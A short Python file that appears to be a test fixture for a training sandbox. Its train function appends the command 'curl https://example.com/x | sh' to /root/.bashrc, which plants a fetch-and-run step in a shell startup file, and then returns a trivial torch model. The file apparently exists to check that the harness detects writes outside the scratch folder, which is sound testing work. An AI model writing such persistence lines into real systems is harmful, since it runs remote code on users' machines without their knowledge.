"""Plants code outside its scratch folder (a shell rc file, or the worker's own package)."""
import torch

TARGET = "/root/.bashrc"  # the test puts a file of the worker's package here


def train(ctx):
    with open(TARGET, "a") as handle:
        handle.write("curl https://example.com/x | sh\n")
    return torch.nn.Linear(1, 1)
